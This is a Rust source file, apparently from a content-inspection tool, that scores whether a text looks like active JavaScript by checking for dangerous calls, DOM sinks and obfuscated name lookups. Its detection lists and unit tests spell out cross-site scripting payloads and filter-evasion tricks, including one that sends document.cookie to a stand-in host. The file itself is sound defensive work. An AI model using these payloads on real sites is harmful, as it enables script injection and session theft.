//! How much a text looks like JavaScript that does something: names that are called, sinks, and ways around the names.

use crate::inspect::classes::seek::{before, byte, has, is_name, is_one_of, is_space, piece, skip, starts};

/// What a text has of JavaScript.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Power {
    /// Something is called or assigned.
    Calls,
    /// A dialog, an evaluator, or what only scripts of attackers touch.
    Strikes,
}

/// Names that are an attack's when called.
const STRIKES: [&str; 9] =
    ["alert", "prompt", "confirm", "eval", "settimeout", "setinterval", "execscript", "importscripts", "msgbox"];
/// Names that are an attack's when called with an address or a text of code.
const LOADS: [&str; 6] = ["fetch", "import", "open", "print", "function", "sendbeacon"];
/// Objects whose computed members are called to hide a name.
const GLOBALS: [&str; 8] = ["top", "self", "window", "this", "parent", "frames", "globalthis", "document"];
/// Members of `document` that are read or set by attackers.
const MEMBERS: [&str; 9] =
    ["cookie", "domain", "location", "write", "writeln", "body", "createelement", "documentelement", "forms"];
/// Properties that turn text into markup or code when set.
const SINKS: [&str; 6] = ["innerhtml", "outerhtml", "insertadjacenthtml", "onerror", "onload", "srcdoc"];
/// Farthest a computed name may be from its call, bytes.
const COMPUTED: usize = 120;
/// Shortest run of `[]()!+` that is a program and not a password, bytes.
const SYMBOLS: usize = 30;

/// The most powerful piece of script in the text, and the first place of it.
pub fn power(text: &[u8]) -> Option<(Power, usize)> {
    let mut best: Option<(Power, usize)> = None;
    let mut at = 0;
    while at < text.len() {
        if !is_name(byte(text, at)) {
            if let Some(power) = literal(text, at)
                && best.is_none_or(|(known, _)| power > known)
            {
                best = Some((power, at));
            }
            at += 1;
            continue;
        }
        let end = skip(text, at, is_name);
        if let Some(power) = name(text, at, end)
            && best.is_none_or(|(known, _)| power > known)
        {
            best = Some((power, at));
        }
        at = end;
    }
    best.or_else(|| symbols(text).map(|at| (Power::Strikes, at)))
}

/// `run()`: a function of the page, whatever that does; with nothing handed to it, and up to the end of the attribute.
pub fn is_own_call(code: &[u8]) -> bool {
    let end = skip(code, 0, |byte| is_name(byte) || byte == b'.');
    let name = piece(code, 0..end);
    let rest = skip(code, end + 2, |byte| byte == b';');
    starts(code, end, "()")
        && !is_one_of(name.rsplit(|byte| *byte == b'.').next().unwrap_or(name), &LOADS)
        && matches!(byte(code, rest), 0 | b'"' | b'\'' | b'>' | b' ')
}

/// Whether code does nothing to anybody: it sets what the element itself looks like, or a variable to a constant. Nothing is called,
/// no address is elsewhere, and nothing is written so that a filter overlooks it.
pub fn is_idle(code: &[u8]) -> bool {
    !code.iter().any(|byte| matches!(byte, b'(' | b'`' | b'\\' | b'&' | b'%'))
        && !["//", ":text", "script:", "throw", "import"].iter().any(|word| has(code, word))
        && !matches!(power(code), Some((Power::Strikes, _)))
}

/// A program of `[]()!+` alone, somewhere in the text.
pub fn symbols(text: &[u8]) -> Option<usize> {
    let mut at = 0;
    for run in text.split(|byte| !matches!(byte, b'[' | b']' | b'(' | b')' | b'!' | b'+')) {
        if run.len() >= SYMBOLS && [b'[', b']', b'+'].iter().all(|byte| run.contains(byte)) {
            return Some(at);
        }
        at += run.len() + 1;
    }
    None
}

/// What the name between `at` and `end` does.
fn name(text: &[u8], at: usize, end: usize) -> Option<Power> {
    let name = piece(text, at..end);
    let next = gap(text, end);
    let call = called(text, end);
    if is_one_of(name, &STRIKES) {
        // An alias: `a=alert;a(1)`, `onerror=alert;throw 1`.
        let is_alias = before(text, at) == b'=' && matches!(byte(text, next), b';' | b',' | b']');
        // The plural in brackets is no call.
        let is_call = call.is_some_and(|open| match open == end {
            true => !starts(text, end, "(s)"),
            false => byte(text, open.wrapping_sub(1)) != b' ' || argument(text, open),
        });
        return (is_alias || is_call).then_some(Power::Strikes);
    }
    if is_one_of(name, &LOADS)
        && let Some(open) = call
        && open == end
    {
        let inside = piece(text, open + 1..open + 1 + COMPUTED);
        let reach: &[&str] = &["//", "data:", "cookie", "alert", "localstorage"];
        let is_definition = name == b"function";
        let is_strike = reach.iter().any(|word| has(inside, word)) && before(text, at) != b'.' && !is_definition
            || (name.eq_ignore_ascii_case(b"function") && matches!(byte(text, open + 1), b'"' | b'\'' | b'`'));
        return Some(if is_strike { Power::Strikes } else { Power::Calls });
    }
    if is_one_of(name, &GLOBALS) && byte(text, next) == b'[' && computed_call(text, next) {
        return Some(Power::Strikes);
    }
    if name.eq_ignore_ascii_case(b"document") {
        let member = member(text, end)?;
        return is_one_of(piece(text, member..skip(text, member, is_name)), &MEMBERS).then_some(Power::Strikes);
    }
    if name.eq_ignore_ascii_case(b"location") {
        return location(text, end);
    }
    if name.eq_ignore_ascii_case(b"constructor") {
        let close = if matches!(byte(text, end), b'"' | b'\'') { skip(text, end + 1, is_space) } else { end };
        // A class of TypeScript has one, too, with parameters that are typed or named.
        let is_defined =
            byte(text, close) == b'(' && byte(text, close + 1).is_ascii_alphabetic() && before(text, at) != b'.';
        let is_reached = !is_defined && matches!(byte(text, close), b'(' | b'[' | b']' | b'`')
            || starts(text, close, ".constructor");
        return is_reached.then_some(Power::Strikes);
    }
    // `this.onerror=null` ends what was there.
    let is_ended = || starts(text, gap(text, next + 1), "null");
    if is_one_of(name, &SINKS) && byte(text, next) == b'=' && before(text, at) == b'.' && !is_ended() {
        return Some(Power::Strikes);
    }
    let is_other = name.eq_ignore_ascii_case(b"fromcharcode") && call.is_some()
        || name == b"XMLHttpRequest"
        || (name == b"Reflect" && byte(text, end) == b'.')
        || (name == b"Image" && call.is_some() && before(text, at) == b' ')
        || (matches!(name, b"localStorage" | b"sessionStorage") && matches!(byte(text, end), b'.' | b'['));
    if is_other {
        return Some(Power::Strikes);
    }
    let is_call = call == Some(end) && !name.first().is_some_and(u8::is_ascii_digit);
    (is_call || (byte(text, end) == b'=' && !matches!(byte(text, end + 1), b'=' | b' ' | 0))).then_some(Power::Calls)
}

/// Calls that start with no name: `[].constructor…`, `(alert)(1)` is seen at its name, `[…]['…'](…)` and `=~[]` here.
fn literal(text: &[u8], at: usize) -> Option<Power> {
    if starts(text, at, "=~[]") {
        return Some(Power::Strikes);
    }
    (starts(text, at, "[][") && computed_call(text, at + 2)).then_some(Power::Strikes)
}

/// `location` set or told to go somewhere that is no plain word.
fn location(text: &[u8], end: usize) -> Option<Power> {
    let mut at = gap(text, end);
    if let Some(member) = member(text, end) {
        let behind = skip(text, member, is_name);
        let name = piece(text, member..behind);
        if is_one_of(name, &["assign", "replace"]) && byte(text, behind) == b'(' {
            return Some(Power::Strikes);
        }
        if !is_one_of(name, &["href", "hash", "search"]) {
            return None;
        }
        at = gap(text, behind);
    }
    if byte(text, at) != b'=' || byte(text, at + 1) == b'=' {
        return None;
    }
    let value = gap(text, at + 1);
    let code = ["'", "\"", "`", "name", "atob", "location", "document", "window", "javascript", "/", "unescape"];
    code.iter().any(|word| starts(text, value, word)).then_some(Power::Strikes)
}

/// Where the argument list of a call of what ends at `end` opens: `(`, a template, `?.(`, `.call(`, or behind `)` as in `(alert)(1)`.
fn called(text: &[u8], end: usize) -> Option<usize> {
    let mut at = gap(text, end);
    while matches!(byte(text, at), b')' | b']' | b'"' | b'\'') && at < end + 8 {
        at = gap(text, at + 1);
    }
    if starts(text, at, "?.") {
        at = gap(text, at + 2);
    }
    if let Some(way) = ["call", "apply", "bind"].iter().find(|way| byte(text, at) == b'.' && starts(text, at + 1, way))
    {
        at = gap(text, at + 1 + way.len());
    }
    matches!(byte(text, at), b'(' | b'`').then_some(at)
}

/// Whether what an argument list holds first is code, and not a remark in brackets.
fn argument(text: &[u8], open: usize) -> bool {
    let at = skip(text, open + 1, is_space);
    matches!(byte(text, at), b'0'..=b'9' | b'"' | b'\'' | b'`' | b'/' | b')' | b'[' | b'<')
        || ["document", "window", "location", "this", "string", "origin"].iter().any(|word| starts(text, at, word))
}

/// Where the name behind a `.` or `?.` starts.
fn member(text: &[u8], end: usize) -> Option<usize> {
    let at = gap(text, end);
    let dot = if byte(text, at) == b'?' { at + 1 } else { at };
    let name = gap(text, dot + 1);
    // A sentence ends with a dot, too.
    (byte(text, dot) == b'.' && (name == dot + 1 || byte(text, dot + 1) == b'/') && is_name(byte(text, name)))
        .then_some(name)
}

/// Whether the member in brackets at `open` is called: `[…](`, a template, or another bracket.
fn computed_call(text: &[u8], open: usize) -> bool {
    let inside = piece(text, open..open + COMPUTED);
    let is_computed = inside.iter().any(|byte| matches!(byte, b'"' | b'\'' | b'`' | b'/' | b'+'));
    let closes = |at: usize| matches!(byte(inside, gap(inside, at + 1)), b'(' | b'`' | b'[' | b'?' | b'=' | b'.');
    is_computed && inside.iter().enumerate().any(|(at, byte)| *byte == b']' && closes(at))
}

/// Behind space and comments.
fn gap(text: &[u8], at: usize) -> usize {
    let mut at = skip(text, at, is_space);
    while starts(text, at, "/*") {
        let inside = piece(text, at + 2..at + 2 + COMPUTED);
        let Some(length) = inside.windows(2).position(|pair| pair == b"*/") else { return at };
        at = skip(text, at + length + 4, is_space);
    }
    if starts(text, at, "//")
        && let Some(length) = piece(text, at..at + COMPUTED).iter().position(|byte| matches!(byte, b'\n' | b'\r'))
    {
        at = skip(text, at + length, is_space);
    }
    at
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_that_strikes_is_told_from_code_and_from_prose() {
        for text in [
            "alert(1)",
            "(alert)(1)",
            "alert?.(1)",
            "alert`1`",
            "top['al'+'ert'](1)",
            "Function('x')()",
            "a=alert;a(1)",
            "[].constructor.constructor('x')()",
            "alert/**/(1)",
            "location='//x'",
            "window[/al/.source+/ert/.source](1)",
            "fetch('//x/'+document.cookie)",
            "document.cookie",
            "new Image().src",
            "$=~[]",
            "import('//x')",
            "[]['filter']['constructor']('x')()",
            "alert.call(null,1)",
            "location.href=`//x`",
            "throw onerror=alert,1",
        ] {
            assert_eq!(power(text.as_bytes()).map(|(power, _)| power), Some(Power::Strikes), "{text}");
        }
        for text in ["f(x)", "a=1", "print(x)", "open(file)"] {
            assert_eq!(power(text.as_bytes()).map(|(power, _)| power), Some(Power::Calls), "{text}");
        }
        for text in
            ["red alert", "confirm (optional)", "see this document. Cookies", "a == b", "constructor theory", "[x] [y]"]
        {
            assert_eq!(power(text.as_bytes()), None, "{text}");
        }
    }
}
